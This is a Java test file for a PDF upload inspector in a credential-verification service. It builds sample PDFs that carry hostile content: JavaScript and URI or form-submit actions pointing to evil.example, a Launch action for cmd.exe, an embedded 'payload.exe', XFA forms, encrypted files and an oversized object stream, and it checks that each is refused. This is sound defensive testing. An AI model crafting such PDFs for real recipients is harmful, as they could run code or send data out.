package com.gradverify.evidence;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;

import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentCatalog;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionImportData;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import com.gradverify.shared.RuleViolationException;
import com.gradverify.shared.SpoolDirectory;

/**
 * PDFs built with PDFBox, saved with compressed object streams as PDFBox 3 does by default, so
 * that whatever they carry sits inside an object stream, invisible to a byte scan.
 */
class PdfInspectorTests {

	private static final long OBJECT_STREAM_CAP = 1024 * 1024;

	@TempDir
	Path dir;

	@Test
	void aPlainPdfIsAcceptedWithOrWithoutObjectStreams() throws IOException {
		byte[] compressed = pdf(document -> document.getDocumentInformation().setTitle("学籍证明"));
		assertThat(text(compressed)).contains("/ObjStm");
		assertThatCode(() -> inspect(compressed)).doesNotThrowAnyException();

		byte[] plain = pdf(document -> { }, CompressParameters.NO_COMPRESSION);
		assertThat(text(plain)).doesNotContain("/ObjStm");
		assertThatCode(() -> inspect(plain)).doesNotThrowAnyException();
	}

	@Test
	void javaScriptInsideACompressedObjectStreamIsFound() throws IOException {
		byte[] file = pdf(document -> document.getDocumentCatalog()
			.setOpenAction(new PDActionJavaScript("app.launchURL('https://evil.example/')")));
		assertThat(text(file)).contains("/ObjStm").doesNotContain("JavaScript").doesNotContain("launchURL");

		assertRefused(file, "evidence.activePdf.javascript");
	}

	@Test
	void aDocumentLevelJavaScriptNameTreeIsFound() throws IOException {
		assertRefused(pdf(document -> {
			PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
			scripts.setNames(Map.of("init", new PDActionJavaScript("app.alert(1)")));
			names(document).setJavascript(scripts);
		}), "evidence.activePdf.javascript");
	}

	@Test
	void anXfaFormIsRefused() throws IOException {
		assertRefused(pdf(document -> {
			PDAcroForm form = new PDAcroForm(document);
			form.getCOSObject().setItem(COSName.getPDFName("XFA"), new COSString("<xdp:xdp/>"));
			document.getDocumentCatalog().setAcroForm(form);
		}), "evidence.activePdf.xfa");
	}

	@Test
	void anOpenActionThatOpensAUriIsRefused() throws IOException {
		assertRefused(pdf(document -> {
			PDActionURI uri = new PDActionURI();
			uri.setURI("https://evil.example/collect");
			document.getDocumentCatalog().setOpenAction(uri);
		}), "evidence.activePdf.uri");
	}

	@Test
	void aLinkThatSubmitsTheFormIsRefused() throws IOException {
		assertRefused(pdf(document -> {
			PDActionSubmitForm submit = new PDActionSubmitForm();
			submit.setFile(file("https://evil.example/submit"));
			PDAnnotationLink link = new PDAnnotationLink();
			link.setAction(submit);
			document.getPage(0).getAnnotations().add(link);
		}), "evidence.activePdf.submitForm");
	}

	@Test
	void importDataIsRefused() throws IOException {
		assertRefused(pdf(document -> {
			PDActionImportData importData = new PDActionImportData();
			importData.setFile(file("data.fdf"));
			document.getDocumentCatalog().setOpenAction(importData);
		}), "evidence.activePdf.importData");
	}

	@Test
	void launchingAProgramIsRefused() throws IOException {
		assertRefused(pdf(document -> {
			PDActionLaunch launch = new PDActionLaunch();
			launch.setFile(file("cmd.exe"));
			document.getDocumentCatalog().setOpenAction(launch);
		}), "evidence.activePdf.launch");
	}

	@Test
	void anEmbeddedFileIsRefused() throws IOException {
		assertRefused(pdf(document -> {
			PDComplexFileSpecification spec = new PDComplexFileSpecification();
			spec.setFile("payload.exe");
			spec.setEmbeddedFile(embedded(document));
			PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
			files.setNames(Map.of("payload.exe", spec));
			names(document).setEmbeddedFiles(files);
		}), "evidence.activePdf.embeddedFile");
	}

	@Test
	void anActionRunWhenAPageOpensIsRefusedEvenIfItOnlyTurnsThePage() throws IOException {
		assertRefused(pdf(document -> document.getPage(0).getActions().setO(new PDActionGoTo())),
				"evidence.activePdf.automaticAction");
	}

	@Test
	void anObjectNothingReferencesIsCheckedToo() {
		assertRefused(EvidenceCorpusGenerator.pdf("<< /Type /Catalog /Pages 2 0 R >>",
				"<< /S /Launch /F (cmd.exe) >>"), "evidence.activePdf.launch");
	}

	@Test
	void encryptedPdfsAreRefusedWithOrWithoutAPassword() throws IOException {
		for (String userPassword : new String[] { "", "secret" }) {
			assertRefused(pdf(document -> document
				.protect(new StandardProtectionPolicy("owner", userPassword, new AccessPermission()))),
					"evidence.encryptedPdf");
		}
	}

	@Test
	void aFileThatIsNoPdfInsideIsRefusedAsCorrupt() {
		assertRefused("%PDF-1.7\nnot a single object here\n%%EOF\n".getBytes(StandardCharsets.US_ASCII),
				"evidence.corruptPdf");
	}

	@Test
	void anObjectStreamThatInflatesPastTheCapIsRefusedBeforePdfBoxDecodesIt() throws IOException {
		// an object of its own, since PDFBox writes the catalog itself outside the object streams
		COSDictionary padding = new COSDictionary();
		padding.setString("Padding", "0".repeat((int) OBJECT_STREAM_CAP * 2));
		byte[] file = pdf(document -> document.getDocumentCatalog().getCOSObject().setItem("PieceInfo", padding));
		assertThat(file.length).isLessThan((int) OBJECT_STREAM_CAP / 10);

		assertThatThrownBy(() -> inspect(file)).isInstanceOfSatisfying(RuleViolationException.class,
				ex -> assertThat(ex.violations()).singleElement().satisfies(v -> {
					assertThat(v.code()).isEqualTo("evidence.pdfObjectStreamTooLarge");
					assertThat(v.args()).containsExactly(1L);
				}));
	}

	private void assertRefused(byte[] file, String code) {
		assertThatThrownBy(() -> inspect(file)).isInstanceOfSatisfying(RuleViolationException.class,
				ex -> assertThat(ex.violations()).singleElement().satisfies(v -> {
					assertThat(v.field()).isEqualTo("file");
					assertThat(v.code()).isEqualTo(code);
				}));
	}

	private void inspect(byte[] file) throws IOException {
		Path pdf = Files.write(dir.resolve("upload.pdf"), file);
		new PdfInspector(new CheckSlots(1, Duration.ofSeconds(5)), new SpoolDirectory(dir.resolve("spool")),
				OBJECT_STREAM_CAP, 8 * 1024 * 1024).inspect(pdf);
	}

	private interface Change {

		void apply(PDDocument document) throws IOException;
	}

	private static byte[] pdf(Change change) throws IOException {
		return pdf(change, CompressParameters.DEFAULT_COMPRESSION);
	}

	private static byte[] pdf(Change change, CompressParameters compression) throws IOException {
		try (PDDocument document = new PDDocument()) {
			document.addPage(new PDPage());
			change.apply(document);
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			document.save(out, compression);
			return out.toByteArray();
		}
	}

	private static PDDocumentNameDictionary names(PDDocument document) {
		PDDocumentCatalog catalog = document.getDocumentCatalog();
		if (catalog.getNames() == null) {
			catalog.setNames(new PDDocumentNameDictionary(catalog));
		}
		return catalog.getNames();
	}

	private static PDSimpleFileSpecification file(String name) {
		PDSimpleFileSpecification file = new PDSimpleFileSpecification();
		file.setFile(name);
		return file;
	}

	private static PDEmbeddedFile embedded(PDDocument document) throws IOException {
		PDEmbeddedFile file = new PDEmbeddedFile(document,
				new ByteArrayInputStream("MZ payload".getBytes(StandardCharsets.US_ASCII)));
		file.setSubtype("application/octet-stream");
		return file;
	}

	private static String text(byte[] file) {
		return new String(file, StandardCharsets.ISO_8859_1);
	}
}
